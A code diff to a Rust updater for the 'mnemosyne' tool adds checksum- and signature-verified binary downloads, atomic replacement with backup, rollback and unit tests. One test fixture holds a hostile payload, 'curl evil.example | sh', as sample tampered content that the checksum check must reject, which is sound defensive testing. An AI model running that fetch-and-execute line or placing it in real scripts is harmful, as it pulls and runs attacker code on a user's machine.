@@ -1,24 +1,36 @@
 //! Tool update and installation system.
 //!
 //! Handles updating mnemosyne, Claude Code, and beads:
-//! - mnemosyne: Uses scripts/build-and-install.sh (includes macOS code signing)
+//! - mnemosyne: Installs the prebuilt release binary when one is published
+//!   for this platform, otherwise uses scripts/build-and-install.sh
+//!   (includes macOS code signing)
 //! - Claude Code: Updates via npm
 //! - beads: Updates via npm or homebrew
 //!
 //! Includes safety features:
-//! - Binary backup before replacement
-//! - Verification after update
-//! - Rollback on failure
+//! - Downloaded binaries must match the release's published SHA256, and its
+//!   minisign signature whenever a trusted public key
+//!   (`MNEMOSYNE_UPDATE_PUBKEY`) is configured
+//! - Atomic rename-into-place, keeping the previous binary as `<name>.bak`
+//! - `--version` smoke test after update
+//! - Rollback to the `.bak` on failure
 
 use crate::error::{MnemosyneError, Result};
-use crate::version_check::{Tool, VersionChecker, VersionInfo};
-use std::path::PathBuf;
+use crate::version_check::{ReleaseArtifact, Tool, VersionChecker, VersionInfo};
+use reqwest::Client;
+use sha2::{Digest, Sha256};
+use std::path::{Path, PathBuf};
 use std::process::Command;
+use std::time::Duration;
 use tracing::{debug, info, warn};
 
+/// Environment variable holding the minisign public key release binaries are signed with
+pub const UPDATE_PUBKEY_ENV: &str = "MNEMOSYNE_UPDATE_PUBKEY";
+
 /// Update manager for tools
 pub struct UpdateManager {
     version_checker: VersionChecker,
+    download_client: Client,
 }
 
 /// Update result
@@ -34,8 +46,15 @@ pub struct UpdateResult {
 impl UpdateManager {
     /// Create a new update manager
     pub fn new() -> Result<Self> {
+        let download_client = Client::builder()
+            .timeout(Duration::from_secs(300))
+            .user_agent("mnemosyne-updater")
+            .build()
+            .map_err(|e| MnemosyneError::NetworkError(e.to_string()))?;
+
         Ok(Self {
-            version_checker: VersionChecker::new()?,
+            version_checker: VersionChecker::from_config()?,
+            download_client,
         })
     }
 
@@ -126,8 +145,78 @@ impl UpdateManager {
         }
     }
 
-    /// Update mnemosyne using the build-and-install script
+    /// Update mnemosyne from a verified release binary, or from source
     async fn update_mnemosyne(&self) -> Result<String> {
+        match self.version_checker.check_tool_fresh(Tool::Mnemosyne).await {
+            Ok(VersionInfo {
+                artifact: Some(artifact),
+                ..
+            }) => {
+                if artifact.sha256.is_some() {
+                    return self.update_mnemosyne_from_release(&artifact).await;
+                }
+                warn!(
+                    "Release binary {} has no published checksum, building from source",
+                    artifact.name
+                );
+            }
+            Ok(_) => debug!("No release binary for this platform, building from source"),
+            Err(e) => warn!(
+                "Failed to fetch release metadata, building from source: {}",
+                e
+            ),
+        }
+
+        self.update_mnemosyne_from_source().await
+    }
+
+    /// Download a release binary, verify it, and swap it in
+    async fn update_mnemosyne_from_release(&self, artifact: &ReleaseArtifact) -> Result<String> {
+        let binary_path = self
+            .version_checker
+            .detect_tool_path(Tool::Mnemosyne)
+            .ok_or_else(|| {
+                MnemosyneError::InvalidOperation(
+                    "Could not locate the installed mnemosyne binary".to_string(),
+                )
+            })?;
+
+        info!("Downloading {}...", artifact.name);
+        let bytes = self.download(&artifact.download_url).await?;
+        let signature = match &artifact.signature_url {
+            Some(url) => Some(self.download(url).await?),
+            None => None,
+        };
+
+        install_release_binary(&bytes, artifact, signature.as_deref(), &binary_path)?;
+
+        Ok(format!(
+            "Successfully updated mnemosyne from verified release binary {}",
+            artifact.name
+        ))
+    }
+
+    async fn download(&self, url: &str) -> Result<Vec<u8>> {
+        let response = self.download_client.get(url).send().await.map_err(|e| {
+            MnemosyneError::NetworkError(format!("Download of {} failed: {}", url, e))
+        })?;
+
+        if !response.status().is_success() {
+            return Err(MnemosyneError::NetworkError(format!(
+                "Download of {} returned status: {}",
+                url,
+                response.status()
+            )));
+        }
+
+        let bytes = response.bytes().await.map_err(|e| {
+            MnemosyneError::NetworkError(format!("Download of {} failed: {}", url, e))
+        })?;
+        Ok(bytes.to_vec())
+    }
+
+    /// Update mnemosyne using the build-and-install script
+    async fn update_mnemosyne_from_source(&self) -> Result<String> {
         // Find the mnemosyne repository
         let repo_path = self.find_mnemosyne_repo()?;
 
@@ -153,7 +242,7 @@ impl UpdateManager {
         // Backup current binary
         let binary_path = self.version_checker.detect_tool_path(Tool::Mnemosyne);
         if let Some(bin_path) = &binary_path {
-            let backup_path = bin_path.with_extension("backup");
+            let backup_path = backup_path(bin_path);
             debug!(
                 "Backing up binary: {} -> {}",
                 bin_path.display(),
@@ -183,12 +272,9 @@ impl UpdateManager {
 
         if !build_output.status.success() {
             // Restore backup on failure
-            if let Some(bin_path) = binary_path {
-                let backup_path = bin_path.with_extension("backup");
-                if backup_path.exists() {
-                    warn!("Build failed, restoring backup...");
-                    std::fs::copy(&backup_path, &bin_path).ok();
-                }
+            if let Some(bin_path) = &binary_path {
+                warn!("Build failed, restoring backup...");
+                restore_backup(bin_path).ok();
             }
 
             return Err(MnemosyneError::InvalidOperation(format!(
@@ -197,28 +283,20 @@ impl UpdateManager {
             )));
         }
 
-        // Verify new binary works
-        let verify = Command::new("mnemosyne")
-            .arg("--version")
-            .output()
-            .map_err(|e| {
-                MnemosyneError::InvalidOperation(format!("Failed to verify new binary: {}", e))
-            })?;
-
-        if !verify.status.success() {
+        // Verify new binary works, rolling back if it doesn't
+        let installed = binary_path
+            .clone()
+            .unwrap_or_else(|| PathBuf::from(Tool::Mnemosyne.name()));
+        if !smoke_test(&installed) {
+            if let Some(bin_path) = &binary_path {
+                warn!("New binary failed verification, restoring backup...");
+                restore_backup(bin_path)?;
+            }
             return Err(MnemosyneError::InvalidOperation(
                 "New binary failed verification".to_string(),
             ));
         }
 
-        // Clean up backup
-        if let Some(bin_path) = binary_path {
-            let backup_path = bin_path.with_extension("backup");
-            if backup_path.exists() {
-                std::fs::remove_file(&backup_path).ok();
-            }
-        }
-
         Ok("Successfully updated mnemosyne".to_string())
     }
 
@@ -356,6 +434,207 @@ impl Default for UpdateManager {
     }
 }
 
+/// Verify a downloaded release binary and install it over `binary_path`
+///
+/// Nothing is written next to the installed binary until the checksum (and
+/// signature, when a trusted key is configured) pass, so a tampered download
+/// leaves it untouched.
+/// The new binary is staged beside the old one (so the final rename stays on
+/// one filesystem) and swapped in by [`replace_binary`].
+pub fn install_release_binary(
+    bytes: &[u8],
+    artifact: &ReleaseArtifact,
+    signature: Option<&[u8]>,
+    binary_path: &Path,
+) -> Result<()> {
+    let expected = artifact.sha256.as_deref().ok_or_else(|| {
+        MnemosyneError::ValidationError(format!(
+            "No published SHA256 checksum for {}",
+            artifact.name
+        ))
+    })?;
+    verify_checksum(bytes, expected, &artifact.name)?;
+
+    let staged = binary_path.with_extension("download");
+    std::fs::write(&staged, bytes)?;
+    let result = trusted_pubkey()
+        .and_then(|pubkey| verify_signature(&staged, signature, pubkey.as_deref(), &artifact.name))
+        .and_then(|()| replace_binary(&staged, binary_path));
+    if staged.exists() {
+        std::fs::remove_file(&staged).ok();
+    }
+    result
+}
+
+/// Check `bytes` against an expected lowercase-hex SHA256
+pub fn verify_checksum(bytes: &[u8], expected: &str, name: &str) -> Result<()> {
+    let actual = format!("{:x}", Sha256::digest(bytes));
+    if !actual.eq_ignore_ascii_case(expected.trim()) {
+        return Err(MnemosyneError::ValidationError(format!(
+            "Checksum mismatch for {}: expected {}, got {}. \
+             The download may be corrupted or tampered with; the installed binary was not changed.",
+            name,
+            expected.trim(),
+            actual
+        )));
+    }
+    debug!("Checksum verified for {}", name);
+    Ok(())
+}
+
+/// Trusted minisign public key from `MNEMOSYNE_UPDATE_PUBKEY`, if set
+fn trusted_pubkey() -> Result<Option<String>> {
+    match std::env::var(UPDATE_PUBKEY_ENV) {
+        Ok(pubkey) => Ok(Some(pubkey)),
+        Err(std::env::VarError::NotPresent) => Ok(None),
+        Err(e) => Err(MnemosyneError::ValidationError(format!(
+            "{} is not readable: {}",
+            UPDATE_PUBKEY_ENV, e
+        ))),
+    }
+}
+
+/// Verify a detached minisign signature with the `minisign` CLI
+///
+/// Skipped, with a warning, only when no trusted public key is configured.
+/// Once one is, a missing signature or `minisign` binary is an error.
+fn verify_signature(
+    path: &Path,
+    signature: Option<&[u8]>,
+    pubkey: Option<&str>,
+    name: &str,
+) -> Result<()> {
+    let Some(pubkey) = pubkey else {
+        warn!(
+            "Not verifying the signature of {}: {} is not set",
+            name, UPDATE_PUBKEY_ENV
+        );
+        return Ok(());
+    };
+    let signature = signature.ok_or_else(|| {
+        MnemosyneError::ValidationError(format!(
+            "No signature published for {}, but {} is set; the installed binary was not changed.",
+            name, UPDATE_PUBKEY_ENV
+        ))
+    })?;
+
+    let sig_path = path.with_extension("minisig");
+    std::fs::write(&sig_path, signature)?;
+    let output = Command::new("minisign")
+        .arg("-Vm")
+        .arg(path)
+        .arg("-x")
+        .arg(&sig_path)
+        .arg("-P")
+        .arg(pubkey.trim())
+        .output();
+    std::fs::remove_file(&sig_path).ok();
+
+    let output = output.map_err(|e| {
+        MnemosyneError::ValidationError(format!("Failed to run minisign to verify {}: {}", name, e))
+    })?;
+    if !output.status.success() {
+        return Err(MnemosyneError::ValidationError(format!(
+            "Signature verification failed for {}: {}",
+            name,
+            String::from_utf8_lossy(&output.stderr).trim()
+        )));
+    }
+    info!("Signature verified for {}", name);
+    Ok(())
+}
+
+/// Path the previous binary is kept at across an update
+///
+/// The suffix is appended to the full file name, so `mnemosyne.exe` is kept
+/// as `mnemosyne.exe.bak` rather than losing its extension.
+pub fn backup_path(binary_path: &Path) -> PathBuf {
+    let mut name = binary_path
+        .file_name()
+        .map(std::ffi::OsString::from)
+        .unwrap_or_default();
+    name.push(".bak");
+    binary_path.with_file_name(name)
+}
+
+/// Atomically swap a verified binary into place, rolling back if it won't run
+///
+/// The previous binary is kept as `<name>.bak`. On Unix the staged binary is
+/// renamed over the old path, so the path always names a complete binary and
+/// running processes keep their old image. Windows refuses to overwrite a
+/// running executable but allows renaming it, so there the old binary is moved
+/// aside to `.bak` first and the staged one moved into the freed path.
+fn replace_binary(staged: &Path, binary_path: &Path) -> Result<()> {
+    #[cfg(unix)]
+    {
+        use std::os::unix::fs::PermissionsExt;
+        std::fs::set_permissions(staged, std::fs::Permissions::from_mode(0o755))?;
+    }
+
+    let backup = backup_path(binary_path);
+    if backup.exists() {
+        std::fs::remove_file(&backup)?;
+    }
+
+    #[cfg(not(windows))]
+    {
+        if binary_path.exists() {
+            // A hard link keeps the backup free; fall back to copying across devices
+            if std::fs::hard_link(binary_path, &backup).is_err() {
+                std::fs::copy(binary_path, &backup)?;
+            }
+        }
+        std::fs::rename(staged, binary_path)?;
+    }
+
+    #[cfg(windows)]
+    {
+        if binary_path.exists() {
+            std::fs::rename(binary_path, &backup)?;
+        }
+        if let Err(e) = std::fs::rename(staged, binary_path) {
+            restore_backup(binary_path).ok();
+            return Err(e.into());
+        }
+    }
+
+    if !smoke_test(binary_path) {
+        warn!("New binary failed verification, restoring backup...");
+        restore_backup(binary_path)?;
+        return Err(MnemosyneError::InvalidOperation(
+            "New binary failed verification; previous version restored".to_string(),
+        ));
+    }
+
+    info!(
+        "Installed {} (previous version kept at {})",
+        binary_path.display(),
+        backup.display()
+    );
+    Ok(())
+}
+
+/// Move `<name>.bak` back over `binary_path`
+fn restore_backup(binary_path: &Path) -> Result<()> {
+    let backup = backup_path(binary_path);
+    if !backup.exists() {
+        return Err(MnemosyneError::InvalidOperation(format!(
+            "No backup to restore at {}",
+            backup.display()
+        )));
+    }
+    std::fs::rename(&backup, binary_path)?;
+    Ok(())
+}
+
+/// Whether a binary runs `--version` successfully
+fn smoke_test(binary_path: &Path) -> bool {
+    Command::new(binary_path)
+        .arg("--version")
+        .output()
+        .is_ok_and(|o| o.status.success())
+}
+
 /// Interactive update prompt
 pub async fn prompt_for_update(info: &VersionInfo) -> bool {
     use std::io::{self, Write};
@@ -393,3 +672,105 @@ pub async fn prompt_for_install(tool: Tool) -> bool {
 
     matches!(input.trim().to_lowercase().as_str(), "y" | "yes")
 }
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use tempfile::TempDir;
+
+    const NEW_BINARY: &[u8] = b"#!/bin/sh\necho mnemosyne 9.9.9\n";
+    const OLD_BINARY: &[u8] = b"#!/bin/sh\necho mnemosyne 1.0.0\n";
+
+    fn artifact(sha256: &[u8]) -> ReleaseArtifact {
+        ReleaseArtifact {
+            name: "mnemosyne-test".to_string(),
+            download_url: "https://example.invalid/mnemosyne-test".to_string(),
+            sha256: Some(format!("{:x}", Sha256::digest(sha256))),
+            signature_url: None,
+        }
+    }
+
+    fn installed(dir: &TempDir) -> PathBuf {
+        let path = dir.path().join("mnemosyne");
+        std::fs::write(&path, OLD_BINARY).unwrap();
+        path
+    }
+
+    #[cfg(unix)]
+    #[test]
+    fn test_verified_binary_is_installed() {
+        let dir = TempDir::new().unwrap();
+        let path = installed(&dir);
+
+        install_release_binary(NEW_BINARY, &artifact(NEW_BINARY), None, &path).unwrap();
+
+        assert_eq!(std::fs::read(&path).unwrap(), NEW_BINARY);
+        assert_eq!(std::fs::read(backup_path(&path)).unwrap(), OLD_BINARY);
+        assert!(!path.with_extension("download").exists());
+    }
+
+    #[cfg(unix)]
+    #[test]
+    fn test_broken_binary_is_rolled_back() {
+        let dir = TempDir::new().unwrap();
+        let path = installed(&dir);
+        // Checksum matches, but the binary fails the smoke test
+        let broken = b"#!/bin/sh\nexit 1\n";
+
+        let err = install_release_binary(broken, &artifact(broken), None, &path).unwrap_err();
+
+        assert!(err.to_string().contains("previous version restored"));
+        assert_eq!(std::fs::read(&path).unwrap(), OLD_BINARY);
+        assert!(!backup_path(&path).exists());
+        assert!(!path.with_extension("download").exists());
+    }
+
+    #[test]
+    fn test_tampered_binary_is_rejected() {
+        let dir = TempDir::new().unwrap();
+        let path = installed(&dir);
+        let tampered = b"#!/bin/sh\ncurl evil.example | sh\n";
+
+        let err = install_release_binary(tampered, &artifact(NEW_BINARY), None, &path).unwrap_err();
+
+        assert!(err.to_string().contains("Checksum mismatch"));
+        assert_eq!(std::fs::read(&path).unwrap(), OLD_BINARY);
+        assert!(!path.with_extension("download").exists());
+    }
+
+    #[test]
+    fn test_missing_signature_is_rejected_when_key_is_trusted() {
+        let dir = TempDir::new().unwrap();
+        let path = installed(&dir);
+
+        let err = verify_signature(&path, None, Some("RWQtest"), "mnemosyne-test").unwrap_err();
+
+        assert!(err.to_string().contains("No signature published"));
+        assert!(verify_signature(&path, None, None, "mnemosyne-test").is_ok());
+    }
+
+    #[test]
+    fn test_backup_path_keeps_extension() {
+        assert_eq!(
+            backup_path(Path::new("/usr/local/bin/mnemosyne")),
+            PathBuf::from("/usr/local/bin/mnemosyne.bak")
+        );
+        assert_eq!(
+            backup_path(Path::new("C:/tools/mnemosyne.exe")),
+            PathBuf::from("C:/tools/mnemosyne.exe.bak")
+        );
+    }
+
+    #[test]
+    fn test_missing_checksum_is_rejected() {
+        let dir = TempDir::new().unwrap();
+        let path = installed(&dir);
+        let unchecked = ReleaseArtifact {
+            sha256: None,
+            ..artifact(NEW_BINARY)
+        };
+
+        assert!(install_release_binary(NEW_BINARY, &unchecked, None, &path).is_err());
+        assert_eq!(std::fs::read(&path).unwrap(), OLD_BINARY);
+    }
+}